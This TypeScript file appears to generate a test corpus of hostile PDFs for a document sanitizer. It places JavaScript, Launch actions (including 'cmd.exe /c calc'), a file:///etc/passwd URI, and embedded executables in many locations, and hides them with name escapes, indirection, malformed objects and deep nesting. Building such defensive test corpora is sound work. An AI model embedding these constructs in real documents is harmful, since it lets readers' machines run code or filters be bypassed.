import { type HostileFile, pdfFile } from './hostile-file.ts';
import { catalog, type PdfObjects, page, stream, textField, writeForm, writePdf } from './write-pdf.ts';

const ACTIONS: Readonly<Record<string, string>> = {
  JavaScript: '/JS (app.alert\\(1\\))',
  Launch: '/F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >>',
  SubmitForm: '/F << /FS /URL /F (https://example.test/) >> /Flags 4',
  ImportData: '/F (data.fdf)',
  URI: '/URI (file:///etc/passwd)',
  GoToR: '/F (other.pdf) /D [0 /Fit]',
  GoToE: '/T << /R /C /N (inner.pdf) >>',
  Rendition: '/JS (app.alert\\(1\\)) /OP 0',
  Named: '/N /Print',
  Hide: '/T (patient_name)',
  ResetForm: '/Fields []',
  Movie: '/T (film)',
  Sound: '/Sound 4 0 R',
  SetOCGState: '/State [/Toggle 4 0 R]',
  Thread: '/D 0',
  Trans: '/Trans << >>',
  GoTo3DView: '/V 0',
  RichMediaExecute: '/CMD << /C (play) >>',
};

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

/** What a document can be made to do, at every place it can stand. */
export const activeFiles: ReadonlyArray<HostileFile> = [
  ...Object.entries(ACTIONS).flatMap(([kind, more]) => placed(kind, `<< /S /${kind} ${more} >>`)),
  ...hidden(),
  ...attached(),
  ...xfa(),
];

function placed(kind: string, action: string): HostileFile[] {
  const link = (more: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] ${more} >>`;
  const places: Record<string, string> = {
    'on opening': writePdf({ 1: catalog(`/OpenAction ${action}`) }),
    'on opening, elsewhere': writePdf({ 1: catalog('/OpenAction 9 0 R'), 9: action }),
    'on closing': writePdf({ 1: catalog(`/AA << /WC ${action} /DP ${action} >>`) }),
    'on a page': writePdf({ 3: page(`/AA << /O ${action} /C ${action} >>`) }),
    'on all pages': writePdf({ 2: `<< /Type /Pages /Kids [3 0 R] /Count 1 /AA << /O ${action} >> >>` }),
    'in a link': writePdf({ 3: page(`/Annots [${link(`/A ${action}`)}]`) }),
    'behind another': writePdf({ 3: page(`/Annots [${link(`/A << /S /GoTo /D [3 0 R /Fit] /Next [${action}] >>`)}]`) }),
    'in a bookmark': writePdf({
      1: catalog('/Outlines 8 0 R'),
      8: '<< /Type /Outlines /First 9 0 R /Last 9 0 R /Count 1 >>',
      9: `<< /Title (Open) /Parent 8 0 R /A ${action} >>`,
    }),
    'in a field': writeForm([
      textField('(patient_name)', `/A ${action} /AA << /K ${action} /F ${action} /Bl ${action} >>`),
    ]),
    'in a parent of a field': writeForm([`<< /T (patient) /Kids [20 0 R] /AA << /C ${action} >> >>`], '/CO [20 0 R]', {
      20: textField('(name)', '/Parent 10 0 R'),
    }),
  };
  return Object.entries(places).map(([place, text]) => pdfFile(`active: ${kind} ${place}`, () => text));
}

function hidden(): HostileFile[] {
  const inLink = (action: string, more: PdfObjects = {}, dict = '/Type /Annot /Subtype /Link /Rect [0 0 600 700]') =>
    writePdf({ 3: page('/Annots [8 0 R]'), 8: `<< ${dict} /A ${action} >>`, ...more });
  const deep = (levels: number) => `${'<< /S /GoTo /D (x) /Next '.repeat(levels)}${SCRIPT}${' >>'.repeat(levels)}`;
  const variants: Record<string, string> = {
    'its kind elsewhere': inLink('<< /S 9 0 R /JS (app.alert\\(1\\)) >>', { 9: '/JavaScript' }),
    'its kind in two steps': inLink('<< /S 9 0 R /JS 11 0 R >>', {
      9: '10 0 R',
      10: '/JavaScript',
      11: '(app.alert\\(1\\))',
    }),
    'its kind in escapes': inLink('<< /#53 /J#61va#53cript /J#53 (app.alert\\(1\\)) >>'),
    'keys in escapes': writePdf({ 1: catalog(`/Open#41ction ${SCRIPT} /A#41 << /WC ${SCRIPT} >>`) }),
    'no kind at all': inLink('<< /JS (app.alert\\(1\\)) >>'),
    'the script as a stream': inLink('<< /S /JavaScript /JS 9 0 R >>', { 9: stream('', 'app.alert(1)') }),
    'in an object that only tolerant readers read': inLink('9 0 R', {
      9: '<< /S /JavaScript /JS (app.alert\\(1\\)) /Odd ) >>',
    }),
    'in an annotation that only tolerant readers read': writePdf({
      3: page('/Annots [8 0 R]'),
      8: `<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A ${SCRIPT} /Odd } >>`,
    }),
    'in a page that only tolerant readers read': writePdf({
      2: '<< /Type /Pages /Kids [3 0 R 8 0 R] /Count 2 >>',
      8: `${page(`/AA << /O ${SCRIPT} >>`).slice(0, -2)} /Odd ) >>`,
    }),
    'in a stream of objects somebody names': writePdf({
      1: catalog('/Odd 9 0 R'),
      9: stream('/Type /ObjStm /N 1 /First 4', `8 0 ${SCRIPT}`),
    }),
    'in names': writePdf({ 1: catalog(`/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>`) }),
    'in names elsewhere': writePdf({
      1: catalog('/Names 8 0 R'),
      8: '<< /JavaScript 9 0 R >>',
      9: `<< /Names [(a) ${SCRIPT}] >>`,
    }),
    'in an annotation without a rectangle': writePdf({
      3: page(`/Annots [<< /Subtype /Widget /AA << /E ${SCRIPT} >> >>]`),
    }),
    'in an annotation without a kind': writePdf({ 3: page(`/Annots [<< /Rect [0 0 9 9] /AA << /E ${SCRIPT} >> >>]`) }),
    'in a field of only a name': writeForm([`<< /T (patient_name) /AA << /K ${SCRIPT} >> >>`]),
    'in a page without a type': writePdf({ 3: page(`/AA << /O ${SCRIPT} >>`).replace('/Type /Page', '') }),
    '200 steps deep': inLink(deep(200)),
    '2,000 steps deep': inLink(deep(2_000)),
    'next to itself': inLink('9 0 R', { 9: '<< /S /JavaScript /JS (a) /Next 9 0 R >>' }),
    'in a catalog defined twice': `${writePdf({ 1: catalog('') })}1 0 obj\n${catalog(`/OpenAction ${SCRIPT}`)}\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF`,
    'in additional actions of the form': writeForm([textField('(patient_name)')], `/AA << /K ${SCRIPT} >>`),
    'in the pieces of an application': writePdf({ 1: catalog(`/PieceInfo << /Evil << /Private ${SCRIPT} >> >>`) }),
    'in a media player': writePdf({
      3: page(
        `/Annots [<< /Subtype /Screen /Rect [0 0 9 9] /MK << >> /A << /S /Rendition /R << /S /MR /C << /S /MCD /D << /EF << /F 4 0 R >> >> >> >> /JS (a) >> >>]`,
      ),
    }),
    'in a 3D scene': writePdf({
      3: page('/Annots [<< /Subtype /3D /Rect [0 0 9 9] /3DD 9 0 R >>]'),
      9: stream('/Type /3D /Subtype /U3D /OnInstantiate 10 0 R', 'U3D'),
      10: stream('', 'app.alert(1)'),
    }),
    'beside a signature': writeForm([
      `<< /Subtype /Widget /FT /Sig /T (sig) /Rect [0 0 9 9] /AA << /F ${SCRIPT} >> /V << /Type /Sig /Filter /Evil /ByteRange [0 9 9 9] >> >>`,
    ]),
    'in a collection': writePdf({ 1: catalog('/Collection << /View /D /Navigator 9 0 R >>'), 9: SCRIPT }),
  };
  return Object.entries(variants).map(([label, text]) => pdfFile(`script: ${label}`, () => text));
}

function attached(): HostileFile[] {
  const file = '<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 9 0 R /UF 9 0 R >> >>';
  const bytes = stream('/Type /EmbeddedFile /Subtype /application#2Foctet-stream', 'MZ evil');
  const variants: Record<string, string> = {
    'in names': writePdf({ 1: catalog(`/Names << /EmbeddedFiles << /Names [(evil) ${file}] >> >>`), 9: bytes }),
    'as an annotation': writePdf({
      3: page(`/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS ${file} >>]`),
      9: bytes,
    }),
    'as an associated file': writePdf({ 1: catalog(`/AF [${file}]`), 9: bytes }),
    'of a page': writePdf({ 3: page(`/AF [${file}]`), 9: bytes }),
    'in rich media': writePdf({
      3: page(
        `/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << /Names [(a.swf) ${file}] >> >> >>]`,
      ),
      9: bytes,
    }),
    'in names in a circle': writePdf({ 1: catalog('/Names << /EmbeddedFiles 8 0 R >>'), 8: '<< /Kids [8 0 R] >>' }),
  };
  return Object.entries(variants).map(([label, text]) => pdfFile(`attached: ${label}`, () => text));
}

function xfa(): HostileFile[] {
  const xml = stream('', '<xdp:xdp xmlns:xdp="x"><script>app.alert(1)</script></xdp:xdp>');
  const forms: Record<string, string> = {
    'without fields': writeForm([], '/XFA 9 0 R', { 9: xml }),
    'beside fields': writeForm([textField('(patient_name)')], '/XFA 9 0 R', { 9: xml }),
    'in parts': writeForm([textField('(patient_name)')], '/XFA [(template) 9 0 R (datasets) 9 0 R]', { 9: xml }),
    'naming itself': writeForm([], '/XFA [9 0 R]', { 9: '[9 0 R]' }),
    'that only some readers see': writeForm([textField('(patient_name)')], '/X#46A 9 0 R /NeedsRendering true', {
      9: xml,
    }),
  };
  return Object.entries(forms).map(([label, text]) => pdfFile(`XFA: ${label}`, () => text));
}
